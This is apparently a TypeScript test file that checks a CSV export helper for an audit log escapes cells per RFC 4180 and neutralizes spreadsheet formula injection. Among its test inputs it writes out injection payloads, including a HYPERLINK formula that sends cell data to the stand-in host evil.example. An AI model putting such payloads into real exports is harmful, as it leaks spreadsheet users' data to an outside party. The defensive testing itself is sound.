import { describe, expect, it } from 'vitest';
import { buildLogCsv, csvCell, csvRow } from './csv';
import { HIDDEN_CHARACTER_CASES } from './testing';

/** A minimal RFC 4180 parser, to check what a spreadsheet would read back. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

describe('csvCell', () => {
  it('leaves plain text and numbers alone', () => {
    expect(csvCell('ballot.cast')).toBe('ballot.cast');
    expect(csvCell(42)).toBe('42');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });

  it('quotes commas, quotes and line breaks (RFC 4180)', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('one\r\ntwo')).toBe('"one\r\ntwo"');
    expect(csvCell('one\ntwo')).toBe('"one\ntwo"');
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ['  =1+1', "'  =1+1"],
    ['\uff1d1+1', "'\uff1d1+1"],
  ])('neutralizes a formula: %j', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it('does not prefix an apostrophe to a formula character in the middle', () => {
    expect(csvCell('Vote 5=5')).toBe('Vote 5=5');
  });

  it.each(HIDDEN_CHARACTER_CASES)('makes control characters and bidi overrides visible: %j', (input, shown) => {
    expect(csvCell(input)).toBe(shown);
  });

  it('a neutralized control character cannot smuggle a formula', () => {
    expect(csvCell('\u0000=1+1')).toBe('[U+0000]=1+1');
  });
});

describe('csvRow and buildLogCsv', () => {
  it('round-trips hostile text through an RFC 4180 parser, one record per entry', () => {
    const hostile = '=HYPERLINK("x","y"),\r\n"quoted"</entry><script>]]>';
    const csv = buildLogCsv([
      {
        seq: 1,
        at: new Date('2026-01-02T03:04:05.000Z'),
        kind: 'proposal.published',
        summary: hostile,
        subject: 'proposal:x',
        actorId: null,
        payload: '{"title":"a,b"}',
        prevHash: '0'.repeat(64),
        hash: 'f'.repeat(64),
      },
      {
        seq: 2,
        at: new Date('2026-01-02T03:04:06.000Z'),
        kind: 'ballot.cast',
        summary: 'Ballot cast on #1 (sealed until close)',
        subject: null,
        actorId: 'u1',
        payload: '{}',
        prevHash: 'f'.repeat(64),
        hash: 'e'.repeat(64),
      },
    ]);
    expect(csv.endsWith('\r\n')).toBe(true);
    const rows = parseCsv(csv);
    expect(rows).toHaveLength(3);
    expect(rows[0]).toEqual(['seq', 'at', 'kind', 'summary', 'subject', 'actor_id', 'payload', 'prev_hash', 'hash']);
    expect(rows[1]![3]).toBe(`'${hostile}`);
    expect(rows[1]![6]).toBe('{"title":"a,b"}');
    expect(rows[2]![0]).toBe('2');
    expect(rows.every((r) => r.length === 9)).toBe(true);
  });

  it('terminates every record with CRLF', () => {
    expect(csvRow(['a', 1, null])).toBe('a,1,\r\n');
  });
});
